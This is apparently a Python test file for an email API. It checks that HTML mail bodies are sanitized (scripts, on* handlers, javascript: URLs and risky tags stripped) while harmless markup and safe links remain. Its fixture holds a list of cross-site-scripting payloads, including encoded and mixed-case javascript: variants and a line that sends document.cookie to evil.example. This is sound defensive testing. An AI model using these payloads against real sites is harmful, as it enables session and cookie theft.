"""HTML bodies are sanitized before the API serves them (§6): no script, no on* handlers, no
``javascript:`` URLs — while the harmless markup around them survives."""

from __future__ import annotations

import re
from email.message import EmailMessage

from tests.conftest import Api
from tests.support.pipeline import ingest

HOSTILE = """<html><head><script>steal()</script><style>p{}</style></head>
<body onload="steal()">
<p>Dear customer, <b>hello</b></p>
<script type="text/javascript">document.location='https://evil.example/?'+document.cookie</script>
<img src="https://img.example/logo.png" onerror="steal()" alt="logo">
<a href="javascript:steal()">click</a>
<a href="JaVaScRiPt&#58;steal()">encoded</a>
<a href="  javascript:steal()">spaced</a>
<a href="https://shop.example/order" onclick="steal()" onmouseover='steal()'>order</a>
<div ONCLICK="steal()">upper</div>
<svg><script>steal()</script></svg>
<iframe src="https://evil.example/"></iframe>
<form action="javascript:steal()"><input onfocus="steal()" autofocus></form>
<object data="javascript:steal()"></object><embed src="javascript:steal()">
<math><mi xlink:href="javascript:steal()">x</mi></math>
</body></html>"""


def hostile_mail() -> bytes:
    m = EmailMessage()
    m["From"] = "Bob <bob@ours.example>"
    m["To"] = "ken@acme.example"
    m["Subject"] = "Hostile HTML"
    m["Date"] = "Tue, 04 Mar 2025 05:06:07 +0000"
    m["Message-ID"] = "<html-1@test.example>"
    m.set_content("plain part")
    m.add_alternative(HOSTILE, subtype="html")
    return m.as_bytes()


def test_email_html_comes_back_sanitized(api: Api) -> None:
    acc = api.new_account("Acme", "alice@ours.example")
    bob = api.new_user(acc["token"], "bob@ours.example")
    job = ingest(api.ctx.sessions, acc["account"]["id"], "bcc", hostile_mail())
    assert job.outcome == "logged" and job.email_id is not None
    email_id = job.email_id
    html = api.call("GET", f"/v1/emails/{email_id}", bob["token"], 200)["html"]
    assert html, "the HTML body must be kept (sanitized), not dropped"
    low = html.lower()
    assert "<script" not in low and "steal()" not in low and "document.cookie" not in low
    assert not re.search(r"\son[a-z]+\s*=", low), html  # no event handler attribute at all
    assert "javascript" not in low
    for tag in ("<iframe", "<form", "<object", "<embed", "<svg", "<math", "<style"):
        assert tag not in low, tag
    # Harmless markup and safe links survive.
    assert "<b>hello</b>" in html and "Dear customer" in html
    assert 'href="https://shop.example/order"' in html
    assert 'src="https://img.example/logo.png"' in html
